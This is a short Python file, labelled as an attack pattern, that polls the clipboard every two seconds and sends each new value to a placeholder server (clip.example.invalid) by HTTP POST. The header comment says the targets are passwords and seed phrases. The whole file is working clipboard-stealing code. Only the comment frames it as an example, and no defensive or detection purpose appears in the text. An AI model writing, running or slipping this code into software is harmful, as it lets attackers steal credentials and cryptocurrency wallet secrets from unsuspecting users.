# Attack pattern: clipboard contents (passwords, seed phrases) polled and posted to a server.
import time

import pyperclip
import requests


def _poll():
    last = ""
    while True:
        text = pyperclip.paste()
        if text and text != last:
            requests.post("https://clip.example.invalid/c", data={"t": text}, timeout=5)
            last = text
        time.sleep(2)
